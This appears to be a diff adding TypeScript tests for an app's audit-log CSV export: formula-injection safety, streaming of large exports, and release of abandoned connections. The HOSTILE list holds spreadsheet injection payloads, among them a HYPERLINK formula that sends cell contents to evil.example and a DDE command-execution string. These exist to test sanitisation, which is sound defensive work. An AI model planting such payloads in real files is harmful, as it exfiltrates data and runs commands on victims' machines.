@@ -1,0 +1,122 @@
+import { Agent, type IncomingMessage, request } from "node:http";
+import { sql } from "drizzle-orm";
+import { causeOf, record } from "@/db/audit/record";
+import { createGroup } from "@/db/groups/create";
+import { baseUrl, send, trySignIn } from "./app";
+import { expect, test, type World } from "./world";
+
+const HOSTILE = [
+  `=HYPERLINK("https://evil.example/?"&A1,"open")`,
+  "=cmd|' /C calc'!A0",
+  "+1+1",
+  "-1+1",
+  "@SUM(1+1)",
+  "＝1+1",
+  "\u200b=1+1",
+  `x";=1+1;"`,
+];
+const UNSEEN = ["\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", `x\n=1+1,"`];
+
+test("no cell of an export starts a formula, whoever chose the names", async ({ world }) => {
+  const ctx = await world.as("alex", "acme");
+  for (const name of HOSTILE) {
+    await createGroup({ ctx, input: { name, description: name, roleIds: [] } });
+    await trySignIn(world.credentials(name, "acme"));
+  }
+  for (const name of UNSEEN) {
+    const details = { changes: { [name]: [name, name] }, groups: [name, name], [name]: name };
+    await record(world.db, causeOf(ctx), { action: "groups.edit", subject: { name }, details });
+  }
+  await world.db.execute(
+    sql`update organizations set name = ${"=1+1"} where id in (${world.places.acme.id}, ${world.places.meridian.id})`,
+  );
+
+  const { status, headers, body } = await send(world.path("acme", "/audit/export"), {
+    cookie: await world.cookie("alex", "acme"),
+  });
+  expect(status).toBe(200);
+  expect(headers).toMatchObject({
+    "content-type": "text/csv; charset=utf-8",
+    "cache-control": "no-store",
+    "x-content-type-options": "nosniff",
+  });
+  expect(headers["content-disposition"]).toMatch(/^attachment; filename="audit-1-1-[\d-]+\.csv"$/);
+  const rows = cellsOf(body);
+  expect(rows.length).toBeGreaterThan(2 * HOSTILE.length + UNSEEN.length);
+  expect(new Set(rows.map((row) => row.length))).toEqual(new Set([12]));
+  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[\p{Cc}\p{Z}\p{Cf}]*[=+\-@＝＋－＠\t\r\0]/u);
+  const semicolons = body.split(/[;\r\n]+/).slice(1);
+  for (const cell of semicolons) expect(cell).not.toMatch(/^[\s"]*[=+\-@]/);
+});
+
+test("an export is sent while the rest is not yet read, and what comes last is in it", async ({ world }) => {
+  await fill(world, 8000);
+  const answer = await download(world);
+  await firstBytes(answer);
+  // While nobody takes what comes next: had it all been read at once, this would be missing.
+  await world.db.execute(sql`
+    insert into audit_events (organization_id, at, actor_name, action, subject_name)
+    values (${world.places.acme.id}, timestamptz '2001-01-01', 'alex', 'groups.create', 'Added at the far end')`);
+  const rows = cellsOf(await rest(answer));
+  expect(rows.at(-1)).toContain("Added at the far end");
+  expect(rows.length).toBeGreaterThan(8000);
+});
+
+test("downloads that are given up hold nothing: the next one is served", async ({ world }) => {
+  await fill(world, 2000);
+  const cookie = await world.cookie("alex", "acme");
+  // Ten connections to the database are all that the app has.
+  const answers = await Promise.all(Array.from({ length: 15 }, () => download(world)));
+  await Promise.all(answers.map(firstBytes));
+  expect((await send(world.path("acme", "/users"), { cookie })).status).toBe(200);
+  for (const answer of answers) answer.destroy();
+  const { body } = await send(world.path("acme", "/audit/export"), { cookie });
+  expect(cellsOf(body).length).toBeGreaterThan(2000);
+});
+
+/** Rows of some kilobytes: more of them than the connection holds in store. */
+async function fill({ db, places }: World, count: number): Promise<void> {
+  await db.execute(sql`
+    insert into audit_events (organization_id, at, actor_name, action, subject_name, details)
+    select ${places.acme.id}, now() - n * interval '1 minute', 'alex', 'groups.edit', 'Drivers',
+      jsonb_build_object('because', repeat('why ', 1000))
+    from generate_series(1, ${count}) n`);
+}
+
+async function download(world: World): Promise<IncomingMessage> {
+  const { host, port } = new URL(baseUrl());
+  const headers = { host, cookie: await world.cookie("alex", "acme") };
+  const path = world.path("acme", "/audit/export");
+  return new Promise((resolve, reject) => {
+    const asked = request({ agent: new Agent(), host: "127.0.0.1", port, path, headers }, resolve);
+    asked.on("error", reject);
+    asked.end();
+  });
+}
+
+/** Takes the first and no more: the answer stays paused. */
+async function firstBytes(answer: IncomingMessage): Promise<void> {
+  await new Promise<void>((resolve, reject) => {
+    answer.on("error", reject);
+    answer.once("readable", resolve);
+  });
+  expect(answer.read(1)).not.toBeNull();
+}
+
+async function rest(answer: IncomingMessage): Promise<string> {
+  const parts: Buffer[] = [];
+  for await (const part of answer) parts.push(part);
+  return Buffer.concat(parts).toString();
+}
+
+/** The cells of each row, as RFC 4180 has them. */
+function cellsOf(csv: string): string[][] {
+  return csv
+    .split("\r\n")
+    .slice(0, -1)
+    .map((line) =>
+      [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))(?=,|$)/g)].map(
+        ([, quoted, bare = ""]) => quoted?.replaceAll('""', '"') ?? bare,
+      ),
+    );
+}
